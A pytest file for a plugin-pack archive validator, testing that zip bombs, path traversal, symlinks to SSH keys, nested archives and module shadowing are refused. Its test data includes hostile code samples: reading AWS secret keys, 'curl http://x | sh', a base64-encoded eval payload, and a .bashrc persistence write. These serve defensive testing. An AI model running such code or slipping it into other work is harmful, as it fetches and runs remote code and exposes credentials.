"""The attack corpus: every hostile archive is rejected (or flagged) with a message naming the file."""

import bz2
import gzip
import io
import os
import stat
import struct
import tarfile
import zipfile
from pathlib import Path

import pytest

from workers.packs.limits import Limits
from workers.packs.report import ValidationReport
from workers.packs.validate import validate_archive, validate_archive_in_subprocess, validate_source

from .helpers import built_files, rehash, write_zip

NO_IMPORT = Limits(import_check=False)


@pytest.fixture
def files(demo: Path, tmp_path: Path) -> dict[str, bytes]:
    return built_files(demo, tmp_path / "honest")


def errors_of(report: ValidationReport) -> set[tuple[str, str | None]]:
    return {(error.code, error.file) for error in report.errors}


def check(
    tmp_path: Path, files: dict[str, bytes], limits: Limits = NO_IMPORT, modes: dict[str, int] | None = None
) -> ValidationReport:
    return validate_archive(write_zip(tmp_path / "attack.zip", files, modes=modes), limits)


def test_the_honest_archive_passes(tmp_path: Path, files: dict[str, bytes]) -> None:
    report = check(tmp_path, files)
    assert report.ok and not report.flagged, report.errors


def test_zip_bomb_with_a_high_compression_ratio(tmp_path: Path, files: dict[str, bytes]) -> None:
    report = check(tmp_path, rehash({**files, "demo/weights.bin": bytes(5 * 1024 * 1024)}))
    assert ("compression-ratio", "demo/weights.bin") in errors_of(report)
    assert "zip bomb" in str(report.errors[0])


def _patch_declared_size(archive: Path, name: str, size: int) -> None:
    """Rewrite the uncompressed size in both the local header and the central directory."""
    data = bytearray(archive.read_bytes())
    with zipfile.ZipFile(archive) as zf:
        offset = zf.getinfo(name).header_offset
    struct.pack_into("<I", data, offset + 22, size)
    central = data.find(b"PK\x01\x02")
    while central != -1:
        name_len = struct.unpack_from("<H", data, central + 28)[0]
        if data[central + 46 : central + 46 + name_len] == name.encode():
            struct.pack_into("<I", data, central + 24, size)
            break
        central = data.find(b"PK\x01\x02", central + 4)
    archive.write_bytes(bytes(data))


def test_a_header_that_understates_the_size_is_caught_while_reading(
    tmp_path: Path, files: dict[str, bytes]
) -> None:
    noise = os.urandom(300_000)
    archive = write_zip(tmp_path / "liar.zip", rehash({**files, "demo/blob.dat": noise}))
    _patch_declared_size(archive, "demo/blob.dat", 1000)
    report = validate_archive(archive, NO_IMPORT)
    assert not report.ok
    assert {code for code, file in errors_of(report) if file == "demo/blob.dat"} & {
        "corrupt",
        "size-mismatch",
    }


def test_a_header_that_overstates_the_size_is_refused_before_reading(
    tmp_path: Path, files: dict[str, bytes]
) -> None:
    archive = write_zip(tmp_path / "liar.zip", rehash({**files, "demo/blob.dat": b"x" * 1000}))
    _patch_declared_size(archive, "demo/blob.dat", 500 * 1024 * 1024)
    report = validate_archive(archive, NO_IMPORT)
    assert ("file-too-large", "demo/blob.dat") in errors_of(report)


@pytest.mark.parametrize(
    ("name", "code"),
    [
        ("../../evil.py", "path-traversal"),
        ("demo/../../evil.py", "path-traversal"),
        ("/etc/cron.d/evil", "absolute-path"),
        ("C:/Windows/evil.dll", "absolute-path"),
        ("demo\\..\\..\\evil.py", "bad-name"),
        ("demo/\u202eyp.txt", "bad-name"),
        ("demo/bell\x07.py", "bad-name"),
        ("demo//double.py", "bad-name"),
    ],
)
def test_unsafe_names_are_refused(tmp_path: Path, files: dict[str, bytes], name: str, code: str) -> None:
    report = check(tmp_path, {**files, name: b"print('pwned')"})
    assert (code, name) in errors_of(report), report.errors


@pytest.mark.parametrize(
    ("mode", "code"),
    [
        (stat.S_IFLNK | 0o777, "symlink"),
        (stat.S_IFCHR | 0o666, "special-file"),
        (stat.S_IFBLK | 0o666, "special-file"),
        (stat.S_IFIFO | 0o644, "special-file"),
        (stat.S_IFREG | stat.S_ISUID | 0o755, "special-file"),
    ],
)
def test_symlinks_devices_and_setuid_entries_are_refused(
    tmp_path: Path, files: dict[str, bytes], mode: int, code: str
) -> None:
    report = check(tmp_path, {**files, "demo/link": b"/home/user/.ssh/id_rsa"}, modes={"demo/link": mode})
    assert (code, "demo/link") in errors_of(report)


def test_a_tar_archive_with_a_device_file_is_refused(tmp_path: Path) -> None:
    archive = tmp_path / "pack.flowyard.zip"
    with tarfile.open(archive, "w:gz") as tar:
        device = tarfile.TarInfo("dev/sda")
        device.type = tarfile.CHRTYPE
        tar.addfile(device)
        info = tarfile.TarInfo("flowyard.toml")
        info.size = 3
        tar.addfile(info, io.BytesIO(b"x=1"))
    report = validate_archive(archive, NO_IMPORT)
    assert [e.code for e in report.errors] == ["not-a-zip"]
    assert "tar archive" in report.errors[0].message


def test_duplicate_entries_are_refused(tmp_path: Path, files: dict[str, bytes]) -> None:
    archive = write_zip(tmp_path / "dup.zip", files)
    with pytest.warns(UserWarning), zipfile.ZipFile(archive, "a") as zf:
        zf.writestr("demo/__init__.py", b"import os; os.system('id')")
    assert ("duplicate-entry", "demo/__init__.py") in errors_of(validate_archive(archive, NO_IMPORT))
    report = check(tmp_path, {**files, "readme.md": b"shadow"})
    assert ("duplicate-entry", "readme.md") in errors_of(report)


def test_size_and_count_limits(tmp_path: Path, files: dict[str, bytes]) -> None:
    big = rehash({**files, "demo/big.dat": os.urandom(5000)})
    report = check(tmp_path, big, limits=Limits(import_check=False, max_file_bytes=4000))
    assert ("file-too-large", "demo/big.dat") in errors_of(report)
    report = check(tmp_path, files, limits=Limits(import_check=False, max_files=3))
    assert [e.code for e in report.errors] == ["too-many-files"]
    report = check(tmp_path, big, limits=Limits(import_check=False, max_total_bytes=6000))
    assert "total-too-large" in {e.code for e in report.errors}
    report = check(tmp_path, files, limits=Limits(import_check=False, max_archive_bytes=100))
    assert [e.code for e in report.errors] == ["archive-too-large"]


def _with_manifest(files: dict[str, bytes], **changes: str | None) -> dict[str, bytes]:
    text = files["flowyard.toml"].decode()
    for key, value in changes.items():
        lines = [line for line in text.splitlines() if not line.startswith(f"{key} =")]
        if value is not None:
            lines.append(f"{key} = {value}")
        text = "\n".join(lines) + "\n"
    return rehash({**files, "flowyard.toml": text.encode()})


@pytest.mark.parametrize(
    ("changes", "field", "reason"),
    [
        ({"publisher": None}, "publisher", "required"),
        ({"version": '"1"'}, "version", "semantic version"),
        ({"name": '"Demo!"'}, "name", "lowercase"),
        ({"sdk_api": '">=9,<10"'}, "sdk_api", "no released SDK API"),
        ({"dependencies": '["requests"]'}, "dependencies[0]", "must be pinned with =="),
        ({"dependencies": '["evil @ https://example.com/e.whl"]'}, "dependencies[0]", "URL"),
        ({"dependencies": '["scipy==1.14.1", "torch==1.13.1"]'}, "dependencies[1]", "provided by the host"),
        ({"readme": '"MISSING.md"'}, "readme", "not in the pack"),
        ({"entry": '"demo.nowhere"'}, "entry", "not found"),
    ],
)
def test_bad_manifests_name_the_field(
    tmp_path: Path, files: dict[str, bytes], changes: dict[str, str | None], field: str, reason: str
) -> None:
    report = check(tmp_path, _with_manifest(files, **changes))
    matching = [e for e in report.errors if e.field == field]
    assert matching and reason in matching[0].message, report.errors


def test_hash_list_must_match_every_file(tmp_path: Path, files: dict[str, bytes]) -> None:
    tampered = {**files, "demo/__init__.py": files["demo/__init__.py"] + b"\nimport os\n"}
    assert ("hash-mismatch", "demo/__init__.py") in errors_of(check(tmp_path, tampered))
    extra = {**files, "demo/extra.py": b"x = 1\n"}
    assert ("unlisted-file", "demo/extra.py") in errors_of(check(tmp_path, extra))
    missing = {name: data for name, data in files.items() if name != "README.md"}
    assert ("missing-file", "README.md") in errors_of(check(tmp_path, missing))
    without = {name: data for name, data in files.items() if name != "MANIFEST.sha256.json"}
    assert "hashes-missing" in {e.code for e in check(tmp_path, without).errors}


MALICIOUS = {
    "env-secret": 'import os\nKEY = os.environ["AWS_SECRET_ACCESS_KEY"]\n',
    "process-spawn": "import subprocess\nsubprocess.run(\"sh -c 'curl http://x | sh'\", shell=True)\n",
    "shell-command": 'import os\nos.system("bash -c id")\n',
    "exec-eval": 'import base64\neval(base64.b64decode("X19pbXBvcnRfXygnb3MnKS5zeXN0ZW0oJ2lkJyk="))\n',
    "runtime-install": 'import os\nos.system("pip install totally-safe")\n',
}


@pytest.mark.parametrize("rule", sorted(MALICIOUS))
def test_malicious_code_is_flagged_with_file_and_line(
    tmp_path: Path, files: dict[str, bytes], rule: str
) -> None:
    report = check(tmp_path, rehash({**files, "demo/evil.py": MALICIOUS[rule].encode()}))
    assert report.ok and report.flagged  # flagged: held for a reviewer, not silently published
    hits = [f for f in report.findings if f.rule == rule and f.file == "demo/evil.py"]
    assert hits and hits[0].severity == "high" and hits[0].line is not None and hits[0].snippet


def test_a_native_binary_is_flagged(tmp_path: Path, files: dict[str, bytes]) -> None:
    report = check(tmp_path, rehash({**files, "demo/_speedups.so": b"\x7fELF\x02\x01\x01" + bytes(64)}))
    assert [(f.rule, f.file) for f in report.findings] == [("binary-code", "demo/_speedups.so")]
    assert report.flagged
    disguised = check(tmp_path, rehash({**files, "demo/data.txt": b"MZ\x90\x00" + bytes(64)}))
    assert [(f.rule, f.file) for f in disguised.findings] == [("binary-code", "demo/data.txt")]


def test_validation_writes_nothing_outside_its_private_folder(
    tmp_path: Path, files: dict[str, bytes], monkeypatch: pytest.MonkeyPatch
) -> None:
    upload = tmp_path / "uploads"
    upload.mkdir()
    write_zip(upload / "slip.zip", {**files, "../../evil.py": b"x"})
    evil = rehash(
        {
            **files,
            "demo/__init__.py": files["demo/__init__.py"]
            + b"\nwith open('pwned.txt', 'w') as f:\n    f.write('x')\n",
        }
    )
    write_zip(upload / "writer.zip", evil)
    monkeypatch.chdir(upload)
    before = sorted(p.relative_to(tmp_path) for p in tmp_path.rglob("*"))
    slip = validate_archive_in_subprocess(upload / "slip.zip")
    writer = validate_archive_in_subprocess(upload / "writer.zip")
    assert sorted(p.relative_to(tmp_path) for p in tmp_path.rglob("*")) == before
    assert ("path-traversal", "../../evil.py") in errors_of(slip)
    assert writer.errors and "File too large" in writer.errors[0].message  # RLIMIT_FSIZE=0: no file writes


@pytest.mark.parametrize(
    ("name", "code"),
    [
        ("json.py", "shadows-stdlib"),
        ("os.py", "shadows-stdlib"),
        ("typing/__init__.py", "shadows-stdlib"),
        ("typing/extras.py", "shadows-stdlib"),  # no __init__.py: still a package on the import path
        ("sitecustomize.py", "shadows-stdlib"),
        ("numpy/__init__.py", "shadows-host-module"),
        ("PIL/Image.py", "shadows-host-module"),
        ("nodepacks/sdk/__init__.py", "shadows-host-module"),
        ("flowyard_packhost/host.py", "shadows-host-module"),
        ("jinja2/__init__.py", "shadows-host-module"),  # a dependency of torch, also in the host layer
    ],
)
def test_modules_that_shadow_the_standard_library_or_the_host_are_refused(
    tmp_path: Path, files: dict[str, bytes], name: str, code: str
) -> None:
    report = check(tmp_path, rehash({**files, name: b"def loads(s):\n    return s\n"}))
    assert (code, name) in errors_of(report), report.errors
    module = name.split("/")[0].removesuffix(".py")
    assert f"{module!r} would shadow" in next(e.message for e in report.errors if e.file == name)


def test_stdlib_names_inside_the_package_or_for_data_folders_are_fine(
    tmp_path: Path, files: dict[str, bytes]
) -> None:
    report = check(
        tmp_path,
        rehash({**files, "demo/json.py": b"X = 1\n", "demo/types.py": b"Y = 2\n", "html/index.html": b"<p>"}),
    )
    assert report.ok and not report.flagged, report.errors


def _with_node(files: dict[str, bytes], old: str, new: str) -> dict[str, bytes]:
    source = files["demo/__init__.py"].decode()
    assert old in source
    return rehash({**files, "demo/__init__.py": source.replace(old, new).encode()})


def test_a_node_id_without_the_pack_prefix_is_refused_at_upload(
    tmp_path: Path, files: dict[str, bytes]
) -> None:
    report = check(tmp_path, _with_node(files, 'id = "demo.Example"', 'id = "LoadImage"'))
    assert [(e.code, e.file, e.node) for e in report.errors] == [
        ("node-prefix", "demo/__init__.py", "LoadImage")
    ]
    line = files["demo/__init__.py"].decode().splitlines().index('    id = "demo.Example"') + 1
    assert report.errors[0].line == line and "'demo.'" in report.errors[0].message


def test_a_node_id_through_the_packs_own_base_class_is_refused(
    tmp_path: Path, files: dict[str, bytes]
) -> None:
    base = b"from nodepacks.sdk import Node as Base\n\n\nclass Common(Base):\n    category = 'x'\n"
    evil = b"from demo.base import Common\n\n\nclass Save(Common):\n    id: str = 'SaveImage'\n"
    other = b"class Settings:\n    id = 'not-a-node'\n"  # not a node class: its id is no node id
    report = check(
        tmp_path,
        rehash({**files, "demo/base.py": base, "demo/save.py": evil, "demo/settings.py": other}),
    )
    assert [(e.code, e.file, e.line, e.node) for e in report.errors] == [
        ("node-prefix", "demo/save.py", 5, "SaveImage")
    ]


def _zip_bytes() -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as zf:
        zf.writestr("evil/__init__.py", "import os; os.system('id')")
    return buffer.getvalue()


def _tar_bytes() -> bytes:
    buffer = io.BytesIO()
    with tarfile.open(fileobj=buffer, mode="w") as tar:
        info = tarfile.TarInfo("evil.py")
        info.size = 9
        tar.addfile(info, io.BytesIO(b"import os"))
    return buffer.getvalue()


@pytest.mark.parametrize(
    ("name", "data", "kind"),
    [
        ("demo/vendor.whl", os.urandom(64), "by its name"),
        ("demo/weights.tar.gz", os.urandom(64), "by its name"),
        ("demo/lut.npz", _zip_bytes(), "zip"),
        ("demo/data.bin", _zip_bytes(), "zip"),  # a zip by its magic bytes, under an innocent name
        ("demo/notes.txt", _tar_bytes(), "tar"),  # ustar magic at offset 257, in a file kept as text
        ("demo/table.dat", gzip.compress(b"x" * 100), "gzip"),
        ("demo/table.json", bz2.compress(b"x" * 100), "bzip2"),
        ("demo/blob", b"7z\xbc\xaf\x27\x1c" + os.urandom(32), "7z"),
        ("demo/blob", b"Rar!\x1a\x07\x01\x00" + os.urandom(32), "rar"),
    ],
)
def test_nested_archives_are_refused_by_name_and_magic_bytes(
    tmp_path: Path, files: dict[str, bytes], name: str, data: bytes, kind: str
) -> None:
    report = check(tmp_path, rehash({**files, name: data}))
    assert ("nested-archive", name) in errors_of(report), report.errors
    assert kind in next(e.message for e in report.errors if e.file == name)


def test_code_run_at_import_is_reported_with_file_and_line(tmp_path: Path, files: dict[str, bytes]) -> None:
    source = files["demo/__init__.py"] + b"\nCACHE = warm_up_everything()\n"
    report = check(tmp_path, rehash({**files, "demo/__init__.py": source}))
    assert report.ok and not report.flagged  # medium: shown to the reviewer; the import runs sandboxed
    hits = [(f.rule, f.file, f.line) for f in report.findings]
    assert ("import-time-code", "demo/__init__.py", len(source.decode().splitlines())) in hits


def test_writes_outside_scratch_and_endless_loops_are_reported(
    tmp_path: Path, files: dict[str, bytes]
) -> None:
    evil = (
        b"def persist(text):\n"
        b"    with open('/home/worker/.bashrc', 'a') as f:\n"
        b"        f.write(text)\n"
        b"\n\ndef spin():\n    while True:\n        pass\n"
    )
    report = check(tmp_path, rehash({**files, "demo/evil.py": evil}))
    assert report.ok
    found = {(f.rule, f.severity, f.file, f.line) for f in report.findings}
    assert ("write-outside", "medium", "demo/evil.py", 2) in found
    assert ("endless-loop", "low", "demo/evil.py", 7) in found


def test_the_vignette_example_passes_as_an_archive(tmp_path: Path, files: dict[str, bytes]) -> None:
    example = Path(__file__).resolve().parents[3] / "examples" / "packs" / "vignette" / "__init__.py"
    manifest = files["flowyard.toml"].decode().replace('name = "demo"', 'name = "vignette"')
    manifest = manifest.replace('version = "0.1.0"', 'version = "1.0.0"')
    pack = {
        "flowyard.toml": manifest.encode(),
        "README.md": b"# Vignette\n",
        "CHANGELOG.md": b"# Changelog\n",
        "vignette/__init__.py": example.read_bytes(),
    }
    report = check(tmp_path, rehash(pack))
    assert report.ok and not report.flagged and not report.findings, (report.errors, report.findings)


def test_a_source_folder_is_refused_like_an_upload(demo: Path) -> None:
    """``flowyard pack validate .`` tells the author before the upload does."""
    (demo / "json.py").write_text("def loads(s):\n    return s\n")
    (demo / "vendor.whl").write_bytes(_zip_bytes())
    init = demo / "demo" / "__init__.py"
    init.write_text(init.read_text().replace('id = "demo.Example"', 'id = "LoadImage"'))
    report = validate_source(demo, NO_IMPORT)
    assert {(e.code, e.file) for e in report.errors} == {
        ("shadows-stdlib", "json.py"),
        ("nested-archive", "vendor.whl"),
        ("node-prefix", "demo/__init__.py"),
    }
